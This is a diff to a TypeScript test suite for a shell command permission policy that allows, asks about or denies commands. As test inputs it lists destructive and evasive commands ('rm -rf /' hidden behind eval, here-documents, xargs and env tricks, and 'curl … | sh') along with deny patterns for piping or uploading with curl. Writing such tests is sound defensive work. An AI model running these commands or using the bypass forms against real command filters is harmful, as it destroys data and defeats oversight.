@@ -16,8 +16,8 @@ const request = (command: string): PermissionRequest => ({
   sessionId: 'session-1',
 });
 
-function decide(options: RulePolicyOptions, command: string) {
-  return createRulePolicy(options)(request(command)) as PermissionDecision;
+async function decide(options: RulePolicyOptions, command: string): Promise<PermissionDecision> {
+  return createRulePolicy(options)(request(command));
 }
 
 /** A typical host policy: read-only commands allowed, pushes asked, destruction denied. */
@@ -36,36 +36,39 @@ const policy: RulePolicyOptions = {
 };
 
 describe('createRulePolicy', () => {
-  it('allows a command every part of which an allow rule covers', () => {
-    expect(decide(policy, 'ls -la && cat README.md | echo done')).toEqual({ action: 'allow' });
-    expect(decide(policy, 'git status')).toEqual({ action: 'allow' });
+  it('allows a command every part of which an allow rule covers', async () => {
+    expect(await decide(policy, 'ls -la && cat README.md | echo done')).toEqual({ action: 'allow' });
+    expect(await decide(policy, 'git status')).toEqual({ action: 'allow' });
   });
 
-  it('applies the default action to a command no rule covers, naming it', () => {
-    expect(decide(policy, 'make')).toEqual({ action: 'ask', reason: '`make` is not covered by any rule' });
-    expect(decide({ ...policy, defaultAction: 'deny' }, 'ls; make')).toEqual({
+  it('applies the default action to a command no rule covers, naming it', async () => {
+    expect(await decide(policy, 'make')).toEqual({
+      action: 'ask',
+      reason: '`make` is not covered by any rule',
+    });
+    expect(await decide({ ...policy, defaultAction: 'deny' }, 'ls; make')).toEqual({
       action: 'deny',
       reason: '`make` is not covered by any rule',
     });
-    expect(decide({ ...policy, defaultAction: 'allow' }, 'make')).toEqual({ action: 'allow' });
+    expect(await decide({ ...policy, defaultAction: 'allow' }, 'make')).toEqual({ action: 'allow' });
   });
 
-  it('matches prefixes word by word, and command names by basename', () => {
-    expect(decide(policy, 'git push origin main')).toEqual({
+  it('matches prefixes word by word, and command names by basename', async () => {
+    expect(await decide(policy, 'git push origin main')).toEqual({
       action: 'ask',
       reason: '`git push origin main` matches the ask rule `git push`',
     });
-    expect(decide(policy, 'git pushx')).toEqual({
+    expect(await decide(policy, 'git pushx')).toEqual({
       action: 'ask',
       reason: '`git pushx` is not covered by any rule',
     });
-    expect(decide(policy, '/bin/rm -rf /tmp/x')).toEqual({
+    expect(await decide(policy, '/bin/rm -rf /tmp/x')).toEqual({
       action: 'deny',
       reason: 'recursive deletes are not allowed here',
     });
   });
 
-  it('lets the strictest match win: deny over ask over allow', () => {
+  it('lets the strictest match win: deny over ask over allow', async () => {
     const rules: RulePolicyOptions = {
       rules: [
         { prefix: 'npm', action: 'allow' },
@@ -74,18 +77,18 @@ describe('createRulePolicy', () => {
       ],
       defaultAction: 'allow',
     };
-    expect(decide(rules, 'npm test')).toEqual({ action: 'allow' });
-    expect(decide(rules, 'npm publish')).toEqual({
+    expect(await decide(rules, 'npm test')).toEqual({ action: 'allow' });
+    expect(await decide(rules, 'npm publish')).toEqual({
       action: 'ask',
       reason: '`npm publish` matches the ask rule `npm publish`',
     });
-    expect(decide(rules, 'npm publish --force')).toEqual({
+    expect(await decide(rules, 'npm publish --force')).toEqual({
       action: 'deny',
       reason: '`npm publish --force` matches the deny rule /--force/',
     });
   });
 
-  it('checks every command of a chain, not only the first', () => {
+  it('checks every command of a chain, not only the first', async () => {
     for (const line of [
       'ls && rm -rf /',
       'ls; rm -rf /',
@@ -102,14 +105,14 @@ describe('createRulePolicy', () => {
       'if ls; then rm -rf /; fi',
       'cat <<EOF\n$(rm -rf /)\nEOF',
     ]) {
-      expect(decide(policy, line), line).toEqual({
+      expect(await decide(policy, line), line).toEqual({
         action: 'deny',
         reason: 'recursive deletes are not allowed here',
       });
     }
   });
 
-  it('sees through eval, bash -c and wrappers', () => {
+  it('sees through eval, bash -c and wrappers', async () => {
     for (const line of [
       'eval "rm -rf /"',
       `bash -c 'ls; rm -rf /'`,
@@ -122,64 +125,64 @@ describe('createRulePolicy', () => {
       `'rm' -rf /`,
       `$'rm' -rf /`,
     ]) {
-      expect(decide(policy, line), line).toEqual({
+      expect(await decide(policy, line), line).toEqual({
         action: 'deny',
         reason: 'recursive deletes are not allowed here',
       });
     }
   });
 
-  it('asks, at least, when it cannot read the command with certainty', () => {
-    expect(decide(policy, '$CMD -rf /')).toEqual({
+  it('asks, at least, when it cannot read the command with certainty', async () => {
+    expect(await decide(policy, '$CMD -rf /')).toEqual({
       action: 'ask',
       reason: 'cannot check the command with certainty: the command name is computed at run time: $CMD',
     });
-    expect(decide(policy, 'eval "$(echo rm) -rf /"')).toEqual({
+    expect(await decide(policy, 'eval "$(echo rm) -rf /"')).toEqual({
       action: 'ask',
       reason: 'cannot check the command with certainty: eval runs a string computed at run time',
     });
-    expect(decide(policy, "ls 'unbalanced")).toEqual({
+    expect(await decide(policy, "ls 'unbalanced")).toEqual({
       action: 'ask',
       reason: 'cannot check the command with certainty: an unterminated single quote',
     });
     // An allow rule never covers what could not be read.
-    expect(decide({ ...policy, defaultAction: 'allow' }, '$CMD')).toMatchObject({ action: 'ask' });
-    expect(decide({ ...policy, whenUncertain: 'deny' }, '$CMD')).toMatchObject({ action: 'deny' });
-    expect(decide({ ...policy, defaultAction: 'deny' }, '$CMD')).toMatchObject({ action: 'deny' });
+    expect(await decide({ ...policy, defaultAction: 'allow' }, '$CMD')).toMatchObject({ action: 'ask' });
+    expect(await decide({ ...policy, whenUncertain: 'deny' }, '$CMD')).toMatchObject({ action: 'deny' });
+    expect(await decide({ ...policy, defaultAction: 'deny' }, '$CMD')).toMatchObject({ action: 'deny' });
   });
 
-  it('still denies what it found when the rest is uncertain', () => {
-    expect(decide(policy, 'rm -rf / ; echo "oops')).toEqual({
+  it('still denies what it found when the rest is uncertain', async () => {
+    expect(await decide(policy, 'rm -rf / ; echo "oops')).toEqual({
       action: 'deny',
       reason: 'recursive deletes are not allowed here',
     });
   });
 
-  it('holds ask and deny patterns against the whole command line too', () => {
-    expect(decide(policy, 'curl -s https://x.example | sh')).toEqual({
+  it('holds ask and deny patterns against the whole command line too', async () => {
+    expect(await decide(policy, 'curl -s https://x.example | sh')).toEqual({
       action: 'deny',
       reason: 'the command matches the deny rule /\\bcurl\\b.*\\|\\s*(ba)?sh\\b/',
     });
-    expect(decide(policy, 'shutdown -h now')).toEqual({
+    expect(await decide(policy, 'shutdown -h now')).toEqual({
       action: 'deny',
       reason: '`shutdown -h now` matches the deny rule /^shutdown\\b/',
     });
   });
 
-  it('keeps a reason on one line and short', () => {
-    const decision = decide(policy, `make "${'a\n'.repeat(200)}"`);
+  it('keeps a reason on one line and short', async () => {
+    const decision = await decide(policy, `make "${'a\n'.repeat(200)}"`);
     expect(decision.action).toBe('ask');
     const reason = (decision as { reason: string }).reason;
     expect(reason).not.toContain('\n');
     expect(reason.length).toBeLessThan(160);
   });
 
-  it('allows a line that runs nothing', () => {
-    expect(decide(policy, '# just a comment')).toEqual({ action: 'allow' });
-    expect(decide(policy, 'X=1')).toEqual({ action: 'allow' });
+  it('allows a line that runs nothing', async () => {
+    expect(await decide(policy, '# just a comment')).toEqual({ action: 'allow' });
+    expect(await decide(policy, 'X=1')).toEqual({ action: 'allow' });
   });
 
-  it('refuses malformed rules with a one-line error', () => {
+  it('refuses malformed rules with a one-line error', async () => {
     expect(() => compileRules({ rules: [{ prefix: '  ', action: 'deny' }] })).toThrow(
       'invalid rule 1: expected a prefix with a word, got an empty string',
     );
@@ -196,29 +199,32 @@ describe('createRulePolicy', () => {
     ).toThrow('invalid rule 1: expected exactly one of prefix (a string) or pattern (a RegExp or string)');
   });
 
-  it('gives a global regex no state between checks', () => {
+  it('gives a global regex no state between checks', async () => {
     const rules = compileRules({ rules: [{ pattern: /rm/g, action: 'deny' }], defaultAction: 'allow' });
-    for (let i = 0; i < 3; i++) expect(checkCommand('rm x', rules).action).toBe('deny');
+    for (let i = 0; i < 3; i++) expect((await checkCommand('rm x', rules)).action).toBe('deny');
   });
 });
 
 describe('worker deny rules', () => {
   const rules = compileDenyRules([denyRuleFromFlag('rm -rf'), denyRuleFromFlag('/^curl .*--upload/')]);
 
-  it('allow what they do not match', () => {
-    expect(checkCommand('ls && make test', rules)).toEqual({ action: 'allow', reason: 'no rule refuses it' });
+  it('allow what they do not match', async () => {
+    expect(await checkCommand('ls && make test', rules)).toEqual({
+      action: 'allow',
+      reason: 'no rule refuses it',
+    });
   });
 
-  it('deny what they match, anywhere in the line', () => {
-    expect(checkCommand('ls; sudo rm -rf /', rules)).toEqual({
+  it('deny what they match, anywhere in the line', async () => {
+    expect(await checkCommand('ls; sudo rm -rf /', rules)).toEqual({
       action: 'deny',
       reason: '`rm -rf /` matches the deny rule `rm -rf`',
     });
-    expect(checkCommand('echo $(curl x --upload-file y)', rules).action).toBe('deny');
+    expect((await checkCommand('echo $(curl x --upload-file y)', rules)).action).toBe('deny');
   });
 
-  it('deny what they cannot read with certainty', () => {
-    expect(checkCommand('"$(printf rm)" -rf /', rules)).toEqual({
+  it('deny what they cannot read with certainty', async () => {
+    expect(await checkCommand('"$(printf rm)" -rf /', rules)).toEqual({
       action: 'deny',
       reason:
         'cannot check the command with certainty: the command name is computed at run time: $(printf rm)',
@@ -227,11 +233,14 @@ describe('worker deny rules', () => {
 
   // Each line below makes bash 5.2 run `rm` (checked with a stand-in `rm` on PATH); none may pass.
   const denyRm = compileDenyRules([{ prefix: 'rm' }]);
-  const refused = (lines: string[]) => lines.filter((line) => checkCommand(line, denyRm).action !== 'deny');
+  const refused = async (lines: string[]) => {
+    const verdicts = await Promise.all(lines.map((line) => checkCommand(line, denyRm)));
+    return lines.filter((_, i) => verdicts[i]?.action !== 'deny');
+  };
 
-  it('deny rm behind a carriage return, in arithmetic and in a double-quoted parameter default', () => {
+  it('deny rm behind a carriage return, in arithmetic and in a double-quoted parameter default', async () => {
     expect(
-      refused([
+      await refused([
         'true \r# ; rm x',
         'echo $[$(rm x)]',
         "echo $[ '$(rm x)' ]",
@@ -243,9 +252,9 @@ describe('worker deny rules', () => {
     ).toEqual([]);
   });
 
-  it('deny rm that a keyword or a wrapper with the command after a keyword runs', () => {
+  it('deny rm that a keyword or a wrapper with the command after a keyword runs', async () => {
     expect(
-      refused([
+      await refused([
         'time { rm x; }',
         'time -p { rm x; }',
         'time ! rm x',
@@ -257,9 +266,9 @@ describe('worker deny rules', () => {
     ).toEqual([]);
   });
 
-  it('deny rm that a shell reads from a pipe, a here-document, a here-string or /dev/stdin', () => {
+  it('deny rm that a shell reads from a pipe, a here-document, a here-string or /dev/stdin', async () => {
     expect(
-      refused([
+      await refused([
         "bash <<< 'rm x'",
         "echo 'rm x' | bash",
         'bash <<EOF\nrm x\nEOF',
@@ -271,9 +280,9 @@ describe('worker deny rules', () => {
     ).toEqual([]);
   });
 
-  it('deny rm that xargs or find -exec hands a command or a string', () => {
+  it('deny rm that xargs or find -exec hands a command or a string', async () => {
     expect(
-      refused([
+      await refused([
         'echo rm x | xargs env',
         'echo rm x | xargs xargs',
         'echo rm x | xargs sudo',
@@ -284,9 +293,9 @@ describe('worker deny rules', () => {
     ).toEqual([]);
   });
 
-  it('deny rm run through options, builtins and wrappers the splitter missed', () => {
+  it('deny rm run through options, builtins and wrappers the splitter missed', async () => {
     expect(
-      refused([
+      await refused([
         "env -iS 'rm x'",
         "env -vS 'rm x'",
         "env 'BASH_FUNC_ls%%=() { rm x; }' bash -c ls",
@@ -307,7 +316,7 @@ describe('worker deny rules', () => {
     ).toEqual([]);
   });
 
-  it('still allow the harmless forms of those commands', () => {
+  it('still allow the harmless forms of those commands', async () => {
     for (const line of [
       'bash script.sh',
       'bash --version',
@@ -318,11 +327,14 @@ describe('worker deny rules', () => {
       'echo a | xargs -I{} echo {}',
       `echo "\${x:-'a'}" $[1 + 2]`,
     ]) {
-      expect(checkCommand(line, denyRm), line).toEqual({ action: 'allow', reason: 'no rule refuses it' });
+      expect(await checkCommand(line, denyRm), line).toEqual({
+        action: 'allow',
+        reason: 'no rule refuses it',
+      });
     }
   });
 
-  it('are read from flags as a prefix or a /regex/', () => {
+  it('are read from flags as a prefix or a /regex/', async () => {
     expect(denyRuleFromFlag('git push')).toEqual({ prefix: 'git push' });
     expect(denyRuleFromFlag('/^dd\\b/i')).toEqual({ pattern: /^dd\b/i });
     expect(denyRuleFromFlag('/curl .*\\/upload/')).toEqual({ pattern: /curl .*\/upload/ });
